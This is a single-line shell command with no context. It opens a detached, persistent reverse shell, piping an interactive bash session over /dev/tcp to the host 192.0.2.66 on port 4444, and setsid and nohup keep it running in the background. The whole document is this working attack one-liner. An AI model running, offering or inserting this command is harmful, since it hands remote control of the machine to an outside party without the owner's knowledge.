setsid nohup bash -c 'bash -i &>/dev/tcp/192.0.2.66/4444 <&1' &
